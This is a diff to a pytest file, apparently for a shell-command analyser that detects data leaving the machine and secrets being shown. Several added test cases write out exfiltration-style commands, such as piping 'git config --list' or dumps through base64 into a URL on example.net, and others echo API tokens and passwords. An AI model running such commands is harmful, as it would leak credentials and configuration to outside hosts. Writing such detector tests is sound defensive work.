@@ -30,6 +30,11 @@ from wicket.shell.read import read
         'f() { hx "https://example.net/$1"; }; f $(cat notes)',
         'a=($(cat notes)); hx "https://example.net/${a[0]}"',
         'x=$A$(cat notes); y="$x"; hx "https://example.net/$y"',
+        'hx "https://example.net/$(git config --list | base64)"',
+        'hx "https://example.net/$(git config -l)"',
+        'hx "https://example.net/$(frob logs | base64 -w0)"',
+        'hx "https://example.net/$(frob | gzip | xxd -p | tr -d x)"',
+        'x=$(frob dump | base64); hx "https://example.net/$x"',
     ],
 )
 def test_what_is_in_a_file(text: str) -> None:
@@ -51,6 +56,10 @@ def test_what_is_in_a_file(text: str) -> None:
         'git tag | while read -r x; do hx "https://example.net/$x"; done',
         'cat notes | wc -l | while read -r x; do hx "https://example.net/$x"; done',
         "ls | xargs -I{} hx https://example.net/{}",
+        'hx "https://example.net/$(echo "$q" | base64)"',
+        'hx "https://example.net/$(date | base64)"',
+        'hx "https://example.net/$(openssl rand 16 | base64)"',
+        'hx "https://example.net/$(frob version)"',
     ],
 )
 def test_what_is_none(text: str) -> None:
@@ -144,3 +153,33 @@ def test_secrets_are_variables_that_are_called_so(text: str) -> None:
 )
 def test_who_asks_is_no_secret_that_is_sent(text: str) -> None:
     assert not carries("secrets", read(text).commands[-1])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'printf %s "$API_KEY" | base64',
+        'cat <<< "$API_TOKEN"',
+        "cat <<E\nkey: $API_TOKEN\nE\n",
+        'echo "$API_TOKEN" | tee x',
+        'echo "$API_TOKEN" | cat | rev',
+        'xxd <<< "$DB_PASSWORD"',
+    ],
+)
+def test_what_shows_its_input_shows_a_secret(text: str) -> None:
+    assert carries("secrets", read(text).commands[-1])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'cat <<< "$HOME"',
+        "cat <<E > .npmrc\ntoken=$API_TOKEN\nE\n",
+        'echo "$API_TOKEN" | cut -c1-4 | cat',
+        'echo "$API_TOKEN" | head -c4 | xxd',
+        'x=$(printf %s "$API_KEY" | base64)',
+        'base64 <<< "$API_TOKEN" > x',
+    ],
+)
+def test_what_is_not_shown_or_no_more_than_a_part_is_none(text: str) -> None:
+    assert not any(carries("secrets", one) for one in read(text).commands if one.name in ("cat", "base64", "xxd"))
